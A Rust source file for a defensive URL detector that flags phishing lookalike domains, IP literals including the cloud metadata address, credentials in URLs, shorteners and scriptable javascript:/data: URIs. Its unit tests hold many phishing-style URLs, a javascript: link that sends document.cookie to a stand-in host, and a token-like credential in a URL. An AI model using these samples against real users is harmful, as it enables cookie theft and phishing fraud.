//! URLs (category `url`): extracts scheme URLs (also inside Markdown links and HTML), `data:`/`javascript:`
//! URIs and bare domains with well-known TLDs, then flags IP-literal hosts, credentials in the authority,
//! punycode or mixed-script lookalikes of allow-listed or well-known domains, URL shorteners and the
//! profile's block list. A host on the allow list (exactly or as a subdomain) is never flagged by domain
//! rules, even when it is also on the block list.

use regex::Regex;
use std::collections::HashMap;
use std::net::{Ipv4Addr, Ipv6Addr};

use super::normalize::fold_phrase;
use super::scan::{Budget, Finding};
use super::window::{TO_SPACE, Windows, byte_hits};
use super::{Category, UrlConfig};

const SHORTENERS: &[&str] = &[
    "bit.ly",
    "t.co",
    "tinyurl.com",
    "goo.gl",
    "ow.ly",
    "is.gd",
    "buff.ly",
    "rebrand.ly",
    "cutt.ly",
    "shorturl.at",
    "rb.gy",
    "t.ly",
    "tiny.cc",
    "bl.ink",
    "s.id",
    "v.gd",
    "lnkd.in",
    "shorte.st",
    "adf.ly",
    "bit.do",
    "qr.ae",
];

/// Brands commonly imitated; lookalikes of these are flagged even without an allow list.
const WELL_KNOWN: &[&str] = &[
    "google.com",
    "paypal.com",
    "microsoft.com",
    "apple.com",
    "amazon.com",
    "github.com",
    "openai.com",
    "anthropic.com",
    "facebook.com",
    "netflix.com",
    "office.com",
    "live.com",
    "outlook.com",
    "icloud.com",
    "linkedin.com",
    "dropbox.com",
    "chase.com",
    "bankofamerica.com",
    "wellsfargo.com",
    "binance.com",
    "coinbase.com",
    "okta.com",
    "slack.com",
    "gitlab.com",
    "npmjs.com",
    "pypi.org",
    "docker.com",
    "adobe.com",
    "docusign.com",
    "instagram.com",
    "whatsapp.com",
    "dhl.com",
    "fedex.com",
    "usps.com",
    "irs.gov",
    "ameli.fr",
    "sparkasse.de",
    "steamcommunity.com",
    "discord.com",
    "roblox.com",
    "ledger.com",
    "metamask.io",
    "trezor.io",
    "epicgames.com",
    "spotify.com",
    "ebay.com",
    // Banks, post offices, government and shopping services phishing imitates outside the US.
    "correos.es",
    "itau.com.br",
    "bradesco.com.br",
    "nubank.com.br",
    "mercadolivre.com.br",
    "mercadolibre.com",
    "gosuslugi.ru",
    "sberbank.ru",
    "tinkoff.ru",
    "onlinesbi.sbi",
    "sbi.co.in",
    "hdfcbank.com",
    "icicibank.com",
    "paytm.com",
    "bankofchina.com",
    "icbc.com.cn",
    "alipay.com",
    "taobao.com",
    "rakuten.co.jp",
    "laposte.fr",
    "posteitaliane.it",
    "royalmail.com",
    "postnl.nl",
    "auspost.com.au",
    "canadapost.ca",
    "hmrc.gov.uk",
    "santander.com",
    "bbva.es",
    "caixabank.es",
    "hsbc.com",
    "barclays.co.uk",
    "revolut.com",
    "booking.com",
    "airbnb.com",
    "walmart.com",
    "zoom.us",
    "office365.com",
    "steampowered.com",
    "playstation.com",
    "telegram.org",
    "tiktok.com",
    "yahoo.com",
    "stripe.com",
];

/// Brand names that are also everyday words: they never make a host look like an impersonation.
const GENERIC_BRANDS: &[&str] = &["office", "live", "chase", "slack", "apple", "docker"];

/// Words phishing hosts pair with a brand (`brand-login-secure.com`, `dhl-paket-zustellung.info`).
const PHISH_WORDS: &[&str] = &[
    "login",
    "signin",
    "logon",
    "verify",
    "verification",
    "secure",
    "security",
    "account",
    "accounts",
    "support",
    "update",
    "auth",
    "check",
    "confirm",
    "billing",
    "refund",
    "remboursement",
    "payment",
    "wallet",
    "recovery",
    "unlock",
    "appeal",
    "alert",
    "helpdesk",
    "paket",
    "zustellung",
    "delivery",
    "parcel",
    "customs",
    "tracking",
    "invoice",
    "kundenverifizierung",
    "service",
    "password",
    "reset",
    "track",
    "redelivery",
    "gift",
    "giveaway",
    "prize",
    "reward",
    "claim",
    "airdrop",
    "free",
    "download",
    "kyc",
    "sso",
    "portal",
    "benefits",
    "sicherheit",
    "pruefung",
    "bestaetigung",
    "atualizacao",
    "cadastro",
    "seguro",
    "envios",
    "pendiente",
    "pago",
    "pagamento",
    "verificacion",
    "verifica",
    "conferma",
    "bonus",
    "cashback",
    "lk",
    "vhod",
];

/// TLDs cheap to register and common in phishing: a brand in a host under one of them is flagged even
/// without a phishing word (`bankofchina-cn.vip`).
const ABUSED_TLDS: &[&str] = &[
    "xyz", "top", "click", "site", "online", "vip", "cc", "pw", "shop", "icu", "buzz", "rest", "cfd", "sbs",
    "lol", "cyou", "monster", "quest", "bond", "tk", "ml", "ga", "cf", "gq", "work", "support", "live",
];

/// Letters a typosquat swaps for each other because they look alike.
const CONFUSABLE: &[(u8, u8)] = &[
    (b'i', b'l'),
    (b'i', b'j'),
    (b'u', b'v'),
    (b'n', b'm'),
    (b'g', b'q'),
];

/// Whether `a` is a typosquat of `b` by one slip: a letter doubled (`steamcommunnity`), a letter dropped, two
/// adjacent letters swapped, or a letter replaced by a look-alike (`dlscord`). Any other substitution is a
/// different word (`finance` is not `binance`).
fn typosquat_of(a: &str, b: &str) -> bool {
    let (a, b) = (a.as_bytes(), b.as_bytes());
    if a == b || a.len().abs_diff(b.len()) > 1 {
        return false;
    }
    let prefix = a.iter().zip(b).take_while(|(x, y)| x == y).count();
    let (ra, rb) = (&a[prefix..], &b[prefix..]);
    match ra.len().cmp(&rb.len()) {
        std::cmp::Ordering::Equal => {
            let (x, y) = (ra[0], rb[0]);
            let confusable = CONFUSABLE
                .iter()
                .any(|&(p, q)| (x, y) == (p, q) || (x, y) == (q, p));
            (confusable && ra[1..] == rb[1..])
                || (ra.len() >= 2 && ra[0] == rb[1] && ra[1] == rb[0] && ra[2..] == rb[2..])
        }
        // One letter more: only a doubled one.
        std::cmp::Ordering::Greater => {
            ra[1..] == *rb && (prefix > 0 && a[prefix - 1] == ra[0] || ra.get(1) == Some(&ra[0]))
        }
        std::cmp::Ordering::Less => *ra == rb[1..],
    }
}

/// TLDs that, as an inner label (`paypal.com.example.info`), make a host pose as another domain.
const POSING_TLDS: &[&str] = &["com", "net", "org", "de", "fr", "gov", "edu", "co"];

/// Brand name (the registrable label: `example` of `docs.example.co.uk`; at least three letters, not an
/// everyday word) -> its domains.
fn brands(config: &UrlConfig) -> HashMap<String, Vec<String>> {
    let mut out: HashMap<String, Vec<String>> = HashMap::new();
    let allow = config.allow_domains.iter().map(|d| normalize_domain(d));
    for domain in allow.chain(WELL_KNOWN.iter().map(|d| (*d).to_string())) {
        let Some(brand) = registrable_label(&domain).filter(|b| b.len() >= 3 && !GENERIC_BRANDS.contains(b))
        else {
            continue;
        };
        out.entry(brand.to_string()).or_default().push(domain.clone());
    }
    out
}

/// The label a domain is registered under: the one before the TLD, or before `co.uk`-style suffixes.
fn registrable_label(domain: &str) -> Option<&str> {
    let labels: Vec<&str> = domain.split('.').collect();
    match labels.as_slice() {
        [.., name, second, cc]
            if cc.len() == 2 && ["co", "com", "net", "org", "gov", "ac", "edu"].contains(second) =>
        {
            Some(name)
        }
        [.., name, _tld] => Some(name),
        _ => None,
    }
}

/// A host label folded over the ASCII substitutions typosquats use (`paypa1`, `g00gle`, `arnazon`).
fn ascii_skeleton(label: &str) -> String {
    let folded: String = label
        .chars()
        .map(|c| match c {
            '0' => 'o',
            '1' => 'l',
            '3' => 'e',
            '4' => 'a',
            '5' => 's',
            '7' => 't',
            c => c,
        })
        .collect();
    folded.replace("rn", "m").replace("vv", "w")
}

/// An all-ASCII host posing as a well-known or allow-listed domain without being it: a brand spelled with
/// look-alike characters (`micros0ft-login.com`), a brand next to a phishing word (`dhl-paket-zustellung.info`)
/// or a whole domain used as a prefix of another one (`paypal.com.verify-account.info`). `brands` maps each
/// brand name (a target's first label) to its domains.
fn ascii_impersonation(host: &str, brands: &HashMap<String, Vec<String>>) -> Option<f32> {
    let labels: Vec<&str> = host.split('.').collect();
    let (_, inner) = labels.split_last()?;
    let tokens: Vec<&str> = inner
        .iter()
        .flat_map(|l| l.split('-'))
        .filter(|t| !t.is_empty())
        .collect();
    // `paypal.com.verify.info`, or `usps.com-redelivery.xyz`: a label that is a TLD, or starts with `com-`,
    // right after another label, so the host reads as a different domain up to that point. (Only `com-`:
    // real hosts start labels with `co-op`, `de-cix`, `net-a-porter`.)
    let posing = (labels.len() >= 4
        && labels[1..labels.len() - 2]
            .iter()
            .any(|l| POSING_TLDS.contains(l)))
        || labels.len() >= 3
            && labels[..labels.len() - 1].windows(2).any(|pair| {
                pair[0] != "www" && pair[1].strip_prefix("com-").is_some_and(|rest| !rest.is_empty())
            });
    let mut score: Option<f32> = posing.then_some(0.8);
    let abused_tld = labels.last().is_some_and(|tld| ABUSED_TLDS.contains(tld));
    for t in &tokens {
        let (domains, spelled_alike) = match brands.get(*t) {
            Some(d) => (d, false),
            None if t.bytes().any(|b| b"013457".contains(&b)) || t.contains("rn") || t.contains("vv") => {
                // Folded whole, or with a trailing number kept (`0ffice365` is `office365`).
                let digits = t.len() - t.trim_end_matches(|c: char| c.is_ascii_digit()).len();
                let (head, tail) = t.split_at(t.len() - digits);
                let found = brands
                    .get(ascii_skeleton(t).as_str())
                    .or_else(|| brands.get(format!("{}{tail}", ascii_skeleton(head)).as_str()));
                match found {
                    Some(d) => (d, true),
                    None => continue,
                }
            }
            // A long brand name one letter off inside the word (`steamcommunnity`, `dlscord`; not an
            // ending added or dropped, as in `bookings`).
            None if t.len() >= 7 => match brands.iter().find(|(b, _)| {
                b.len() >= 7 && typosquat_of(t, b) && !t.starts_with(b.as_str()) && !b.starts_with(*t)
            }) {
                Some((_, d)) => (d, true),
                None => continue,
            },
            None => continue,
        };
        if domains.iter().any(|d| is_domain_or_subdomain(host, d)) {
            return None;
        }
        if spelled_alike {
            score = Some(0.9);
        } else if tokens.iter().any(|w| PHISH_WORDS.contains(w)) {
            score = Some(score.map_or(0.8, |s| s.max(0.8)));
        } else if abused_tld {
            score = Some(score.map_or(0.7, |s| s.max(0.7)));
        }
    }
    score
}

#[derive(Debug)]
pub(crate) struct UrlDetector {
    scheme: Option<Regex>,
    special: Option<Regex>,
    bare: Option<Regex>,
    allow: Vec<String>,
    block: Vec<String>,
    /// Brand name -> domains, from the allow list and [`WELL_KNOWN`], for ASCII impersonation checks.
    brands: HashMap<String, Vec<String>>,
}

fn normalize_domain(d: &str) -> String {
    d.trim()
        .trim_start_matches("*.")
        .trim_end_matches('.')
        .to_ascii_lowercase()
}

/// Top-level domains a bare domain (no scheme) must end in to be taken for a URL, in the regex's order.
const TLDS: [&str; 36] = [
    "com", "net", "org", "io", "co", "ly", "gl", "gd", "me", "ru", "cn", "xyz", "top", "info", "biz", "tk",
    "ml", "ga", "cf", "gq", "online", "site", "club", "shop", "app", "dev", "ai", "cc", "ws", "su", "pw",
    "in", "de", "uk", "us", "at",
];

fn on_list(host: &str, list: &[String]) -> bool {
    list.iter().any(|d| is_domain_or_subdomain(host, d))
}

/// `host` is `domain` or one of its subdomains.
fn is_domain_or_subdomain(host: &str, domain: &str) -> bool {
    host == domain
        || (host.len() > domain.len()
            && host.ends_with(domain)
            && host[..host.len() - domain.len()].ends_with('.'))
}

impl UrlDetector {
    pub(crate) fn new(config: &UrlConfig) -> UrlDetector {
        UrlDetector {
            scheme: Regex::new(r#"(?i)(?-u:\b)(?:https?|ftp|wss?)://[^\s<>"'`)\]]+"#).ok(),
            special: Regex::new(r"(?i)(?-u:\b)(?:javascript:[^\s<>\x22'`]{2,}|vbscript:[^\s<>\x22'`]{2,}|data:[a-z]+/[a-z0-9.+-]+[;,][^\s<>\x22'`)]*)").ok(),
            bare: Regex::new(&format!(
                r"(?i)(?-u:\b)(?:[a-z0-9-]{{1,63}}\.)+(?:{})(?-u:\b)(?:/[^\s<>\x22'`)\]]*)?",
                TLDS.join("|")
            ))
            .ok(),
            brands: brands(config),
            allow: config.allow_domains.iter().map(|d| normalize_domain(d)).filter(|d| !d.is_empty()).collect(),
            block: config.block_domains.iter().map(|d| normalize_domain(d)).filter(|d| !d.is_empty()).collect(),
        }
    }

    pub(crate) fn patterns(&self, out: &mut Vec<String>) {
        let all = [&self.scheme, &self.special, &self.bare];
        out.extend(all.into_iter().flatten().map(|r| r.as_str().to_string()));
    }

    /// Windows (see [`super::window`]): a `:` before `//` or after `javascript`, `vbscript` or `data` for
    /// URIs, a `.` before a known TLD for bare domains. Distances are in bytes and allow for the multi-byte
    /// characters that `(?i)` folds to ASCII letters (`ſ`, the Kelvin sign).
    fn windows(text: &str) -> (Windows, Windows) {
        let bytes = text.as_bytes();
        // `(?i)` also folds `ſ` and the Kelvin sign to ASCII letters, so a non-ASCII byte keeps a hit.
        let scheme_or_uri = |p: usize| {
            let before = &bytes[p.saturating_sub(24)..p];
            bytes[p + 1..].starts_with(b"//")
                || before.iter().any(|b| *b >= 0x80)
                || [&b"javascript"[..], b"vbscript", b"data"].iter().any(|w| {
                    before.len() >= w.len() && before[before.len() - w.len()..].eq_ignore_ascii_case(w)
                })
        };
        // The TLD is the whole word after the dot (the regex wants a word boundary after it).
        let tld_follows = |p: usize| {
            let rest = &bytes[p + 1..];
            let word = rest
                .iter()
                .position(|b| !(b.is_ascii_alphanumeric() || *b == b'_'))
                .unwrap_or(rest.len());
            rest.get(word).is_some_and(|b| *b >= 0x80)
                || (word <= 6
                    && TLDS
                        .iter()
                        .any(|t| rest[..word].eq_ignore_ascii_case(t.as_bytes())))
        };
        (
            Windows::around(text, byte_hits(text, b':').filter(|&p| scheme_or_uri(p)), 40, 4),
            // Labels hold no whitespace, so a bare domain starts after the whitespace before its TLD's dot.
            Windows::around(
                text,
                byte_hits(text, b'.').filter(|&p| tld_follows(p)),
                TO_SPACE,
                8,
            ),
        )
    }

    pub(crate) fn detect(&self, text: &str, out: &mut Vec<Finding>, budget: &Budget) {
        let (colon, dot) = Self::windows(text);
        self.detect_in(text, &colon, &dot, out, budget);
    }

    /// [`UrlDetector::detect`] with given windows; tests compare it against whole-text windows.
    fn detect_in(&self, text: &str, colon: &Windows, dot: &Windows, out: &mut Vec<Finding>, budget: &Budget) {
        let mut spans: Vec<(usize, usize)> = Vec::new();
        if let Some(r) = &self.special {
            for m in colon.find_iter(r, text) {
                if out.len() >= budget.findings_left {
                    return;
                }
                let lower = m.as_str().to_ascii_lowercase();
                let (detector, score) = if lower.starts_with("data:") {
                    let active = [
                        "data:text/html",
                        "data:application/",
                        "data:image/svg",
                        "data:text/javascript",
                    ]
                    .iter()
                    .any(|p| lower.starts_with(p));
                    let passive = [
                        "data:image/",
                        "data:audio/",
                        "data:video/",
                        "data:font/",
                        "data:text/plain",
                    ]
                    .iter()
                    .any(|p| lower.starts_with(p));
                    if passive && !active {
                        continue;
                    }
                    ("url.data_uri", if active { 0.9 } else { 0.6 })
                } else {
                    // `javascript:void(0)` is the usual no-op link target of HTML menus, not code.
                    let body = lower.split_once(':').map_or("", |(_, b)| b.trim_end_matches(';'));
                    if matches!(body, "void(0)" | "void 0" | "void(null)") {
                        continue;
                    }
                    ("url.javascript_uri", 0.9)
                };
                out.push(Finding::new(Category::Url, detector, score, m.start(), m.end()));
                spans.push((m.start(), m.end()));
            }
        }
        if let Some(r) = &self.scheme {
            for m in colon.find_iter(r, text) {
                if out.len() >= budget.findings_left {
                    return;
                }
                let url = m.as_str().trim_end_matches(['.', ',', ';', ':', '!', '?']);
                self.check(url, m.start(), true, out);
                spans.push((m.start(), m.end()));
            }
        }
        if let Some(r) = &self.bare {
            for m in dot.find_iter(r, text) {
                if out.len() >= budget.findings_left {
                    return;
                }
                if spans.iter().any(|&(s, e)| s <= m.start() && m.start() < e)
                    || text[..m.start()].ends_with(['@', '.', '/', ':'])
                {
                    continue;
                }
                let url = m.as_str().trim_end_matches(['.', ',', ';', ':', '!', '?']);
                self.check(url, m.start(), false, out);
            }
        }
    }

    fn check(&self, url: &str, start: usize, has_scheme: bool, out: &mut Vec<Finding>) {
        let end = start + url.len();
        let rest = if has_scheme {
            url.split_once("://").map_or(url, |(_, r)| r)
        } else {
            url
        };
        let authority = rest.split(['/', '?', '#']).next().unwrap_or("");
        let (userinfo, hostport) = match authority.rsplit_once('@') {
            Some((u, h)) => (Some(u), h),
            None => (None, authority),
        };
        let host = if let Some(v6) = hostport.strip_prefix('[') {
            v6.split(']').next().unwrap_or("")
        } else {
            hostport
                .rsplit_once(':')
                .filter(|(_, p)| p.bytes().all(|b| b.is_ascii_digit()))
                .map_or(hostport, |(h, _)| h)
        };
        let host = host.trim_end_matches('.').to_lowercase();
        if host.is_empty() {
            return;
        }
        let mut push = |detector: &'static str, score: f32| {
            let mut f = Finding::new(Category::Url, detector, score, start, end);
            f.maskable = detector == "url.credentials";
            out.push(f);
        };
        if let Some(u) = userinfo {
            // `user:password@`, a token as the user (`https://ghp_…@github.com`), or a host-like user
            // hiding the real host (`https://accounts.google.com@evil.example`).
            if u.contains(':') {
                push("url.credentials", 0.85);
            } else if u.contains('.') || u.len() >= 20 {
                push("url.credentials", 0.75);
            }
        }
        if let Some(ip) = ip_literal(&host) {
            let score = if ip == "169.254.169.254" || ip == "fd00:ec2::254" {
                0.95
            } else {
                0.75
            };
            push("url.ip_literal", score);
            return;
        }
        if on_list(&host, &self.allow) {
            return;
        }
        if on_list(&host, &self.block) {
            push("url.blocked", 0.95);
        }
        if SHORTENERS.contains(&host.as_str()) {
            push("url.shortener", 0.6);
        }
        if let Some(score) = self.lookalike(&host) {
            push("url.lookalike", score);
        }
    }

    /// Punycode or mixed-script hosts whose skeleton equals an allow-listed or well-known domain.
    fn lookalike(&self, host: &str) -> Option<f32> {
        // Printable ASCII without punycode folds to itself: only ASCII tricks can make it imitate a brand.
        if host.bytes().all(|b| b.is_ascii_graphic()) && !host.split('.').any(|l| l.starts_with("xn--")) {
            return ascii_impersonation(host, &self.brands);
        }
        let unicode = if host.split('.').any(|l| l.starts_with("xn--")) {
            let (u, res) = idna::domain_to_unicode(host);
            if res.is_err() {
                return Some(0.6);
            }
            u
        } else {
            host.to_string()
        };
        let non_ascii = !unicode.is_ascii();
        let skeleton = fold_phrase(&unicode, false);
        let targets = self
            .allow
            .iter()
            .map(String::as_str)
            .chain(WELL_KNOWN.iter().copied());
        for t in targets {
            let imitates = is_domain_or_subdomain(&skeleton, t);
            if imitates && (non_ascii || unicode != skeleton) {
                return Some(0.9);
            }
        }
        if non_ascii && mixed_script(&unicode) {
            return Some(0.8);
        }
        None
    }
}

/// Labels mixing Latin letters with Cyrillic or Greek ones (whole-script IDNs are legitimate).
fn mixed_script(host: &str) -> bool {
    host.split('.').any(|label| {
        let latin = label.chars().any(|c| c.is_ascii_alphabetic());
        let other = label
            .chars()
            .any(|c| matches!(c, '\u{0370}'..='\u{03FF}' | '\u{0400}'..='\u{04FF}'));
        latin && other
    })
}

/// The host as an IP address, including integer and hex forms browsers accept (`http://3232235777/`).
fn ip_literal(host: &str) -> Option<String> {
    if let Ok(ip) = host.parse::<Ipv4Addr>() {
        return Some(ip.to_string());
    }
    if let Ok(ip) = host.parse::<Ipv6Addr>() {
        return Some(ip.to_string());
    }
    if !host.is_empty() && host.bytes().all(|b| b.is_ascii_digit()) {
        return host.parse::<u32>().ok().map(|n| Ipv4Addr::from(n).to_string());
    }
    let parts: Vec<&str> = host.split('.').collect();
    if (1..=4).contains(&parts.len()) && parts.iter().all(|p| p.starts_with("0x") && p.len() > 2) {
        return Some(host.to_string());
    }
    None
}

#[cfg(test)]
mod tests {

    #[test]
    fn windows_find_exactly_what_the_whole_text_does() {
        let d = UrlDetector::new(&UrlConfig {
            allow_domains: vec!["example.com".into()],
            block_domains: vec!["evil.example.com".into()],
        });
        let budget = super::super::scan::Budget::unlimited;
        bolero::check!()
            .with_test_time(std::time::Duration::from_secs(2))
            .for_each(|bytes: &[u8]| {
                let text = crate::engine::window::tricky_text(bytes);
                let (colon, dot) = UrlDetector::windows(&text);
                let mut windowed = Vec::new();
                d.detect_in(&text, &colon, &dot, &mut windowed, &budget());
                let whole = Windows::whole(&text);
                let mut reference = Vec::new();
                d.detect_in(&text, &whole, &whole, &mut reference, &budget());
                assert_eq!(windowed, reference, "{text:?}");
            });
    }
    use super::*;

    fn flags(config: &UrlConfig, text: &str) -> Vec<(&'static str, String)> {
        let d = UrlDetector::new(config);
        let mut out = Vec::new();
        let budget = Budget {
            decoded_bytes_left: 0,
            blobs_left: 0,
            findings_left: 100,
            truncated: false,
        };
        d.detect(text, &mut out, &budget);
        out.into_iter()
            .map(|f| (f.detector, text[f.start..f.end].to_string()))
            .collect()
    }

    fn default_flags(text: &str) -> Vec<&'static str> {
        flags(&UrlConfig::default(), text)
            .into_iter()
            .map(|(d, _)| d)
            .collect()
    }

    #[test]
    fn ip_literals_including_encoded_forms() {
        assert_eq!(
            default_flags("see http://192.168.4.20:8080/admin"),
            ["url.ip_literal"]
        );
        assert_eq!(default_flags("[x](http://3232235777/)"), ["url.ip_literal"]);
        assert_eq!(default_flags("http://[::1]/x"), ["url.ip_literal"]);
        assert_eq!(
            flags(&UrlConfig::default(), "http://169.254.169.254/latest/meta-data/")[0].1,
            "http://169.254.169.254/latest/meta-data/"
        );
    }

    #[test]
    fn lookalikes_shorteners_credentials_and_schemes() {
        assert_eq!(
            default_flags("login at https://xn--pypal-4ve.com/"),
            ["url.lookalike"]
        );
        assert_eq!(default_flags("login at https://pаypal.com/"), ["url.lookalike"]);
        assert_eq!(default_flags("go to bit.ly/3xYz"), ["url.shortener"]);
        assert_eq!(
            default_flags("ftp://admin:hunter2@files.example.com/"),
            ["url.credentials"]
        );
        assert_eq!(
            default_flags("<a href=\"javascript:alert(document.cookie)\">"),
            ["url.javascript_uri"]
        );
        assert_eq!(
            default_flags("[c](data:text/html;base64,PHNjcmlwdD4=)"),
            ["url.data_uri"]
        );
        // The no-op link target of HTML menus is not code; anything after it is.
        assert!(default_flags("<a href=\"javascript:void(0)\" onclick=\"toggle()\">Menu</a>").is_empty());
        assert!(default_flags("<a href=\"javascript:void(0);\">x</a>").is_empty());
        assert_eq!(
            default_flags("<a href=\"javascript:void(0);fetch('//x.example/?'+document.cookie)\">x</a>"),
            ["url.javascript_uri"]
        );
    }

    #[test]
    fn ascii_impersonations_of_well_known_brands() {
        for t in [
            "https://paypa1.com/invoices/88231",
            "https://micros0ft-login.com/auth",
            "https://g00gle-drive.com/file/d/1x/view",
            "https://arnazon-account-support.com/refund",
            "https://paypal.com.secure-verify-account.info/login",
            "https://www.sparkasse.de.kundenverifizierung.info/login",
            "https://dhl-paket-zustellung.info/track",
            "https://github-login-verify.com/session",
            "https://usps.com-redelivery-track.xyz/a8Kd",
            "https://paypal.com-resolution-center.info/case",
            "https://discord-gift-claim.example/nitro",
            "https://sparkasse-de.sicherheit-pruefung.info/login",
            "https://correos-es.envios-pendiente.xyz/pago",
            "https://itau-atualizacao.cadastro-seguro.site/?cpf=",
            "https://gosuslugi-lk.online/vhod?id=1",
            "http://sbi-kyc-update.in.net/yono/login.php",
            "http://bankofchina-cn.vip/jf",
            "https://zoom-us-download.app-install.cc/ZoomInstaller.exe",
            "https://steamcommunnity.com/tradeoffer/new/",
            "https://dlscord-gift.ru/claim/8Jk2Pq",
            "https://0ffice365-login.com/auth",
        ] {
            assert_eq!(default_flags(t), ["url.lookalike"], "{t}");
        }
        for t in [
            "https://www.paypal.com/signin",
            "https://support.microsoft.com/en-us",
            "https://google-analytics.com/collect",
            "https://mail.google.com/mail/u/0",
            "https://example.com.au/login",
            "https://office-supplies.com/account",
            "https://apple-pie-recipes.com/support",
            "https://my-github-notes.dev/",
            "https://www.com-tech.example/contact",
            "https://support.discord.com/hc/en-us",
            "https://shop.co-op.co.uk/offers",
            "https://api.de-cix.net/status",
            "https://shop.net-a-porter.com/en-gb",
            "https://www.correos.es/es/es/herramientas/localizador",
            "https://steamcommunity.com/id/someone",
            "https://store.steampowered.com/app/730",
            "https://discord.com/invite/rust-lang",
            "https://www.itau.com.br/atendimento",
            "https://zoom.us/j/123456789",
            "https://zoomcamp-notes.xyz/week1",
            "https://bookings-for-teams.com/portal",
            "https://my-telegram-bot-docs.dev/",
            "https://personal-finance.blog/budget",
            "https://finance.example.org/report",
            "https://outlock-hardware.com/locks",
        ] {
            assert!(default_flags(t).is_empty(), "{t}: {:?}", default_flags(t));
        }
    }

    #[test]
    fn allow_listed_domains_are_impersonated_by_their_registrable_name() {
        let cfg = UrlConfig {
            allow_domains: vec!["www.acmebank.co.uk".into(), "api.example.com".into()],
            block_domains: vec![],
        };
        let d = |t| flags(&cfg, t).into_iter().map(|(d, _)| d).collect::<Vec<_>>();
        assert_eq!(d("https://acmebank-login.com/"), ["url.lookalike"]);
        assert_eq!(d("https://acrnebank.co.uk/"), ["url.lookalike"]);
        assert!(
            d("https://www.secure-shop.com/login").is_empty(),
            "www is no brand"
        );
        assert!(d("https://api-status-check.io/").is_empty(), "api is no brand");
    }

    #[test]
    fn a_token_or_a_host_as_the_user_is_a_credential_in_the_url() {
        assert_eq!(
            default_flags("url = https://ghp_brAY3LD5F63x7bfVUSG63XZvde8BpLxdBVF4@github.com/acme/x.git"),
            ["url.credentials"]
        );
        assert_eq!(
            default_flags("https://accounts.google.com@login-verify-session.com/ServiceLogin"),
            ["url.credentials"]
        );
        assert!(default_flags("https://git@example.com/repo").is_empty());
    }

    #[test]
    fn block_list_and_allow_list_precedence() {
        let cfg = UrlConfig {
            allow_domains: vec!["docs.evil.example".into(), "corp.example".into()],
            block_domains: vec!["evil.example".into()],
        };
        let d = |t| flags(&cfg, t).into_iter().map(|(d, _)| d).collect::<Vec<_>>();
        assert_eq!(d("https://www.evil.example/x"), ["url.blocked"]);
        assert_eq!(
            d("evil.example"),
            Vec::<&str>::new(),
            "example is not a known TLD for bare domains"
        );
        assert!(d("https://docs.evil.example/page").is_empty(), "allow wins");
        assert!(
            d("https://notevil.example/").is_empty(),
            "suffix is not a subdomain"
        );
        assert_eq!(d("https://corp.exаmple/"), ["url.lookalike"]);
    }

    #[test]
    fn ordinary_urls_are_not_flagged() {
        for t in [
            "https://github.com/rust-lang/rust/issues?q=is%3Aopen",
            "see docs.rs/regex and example.com",
            "email me at bob@example.com",
            "https://中国.cn/",
            "file main.py and script.sh",
        ] {
            assert!(default_flags(t).is_empty(), "{t}: {:?}", default_flags(t));
        }
    }
}
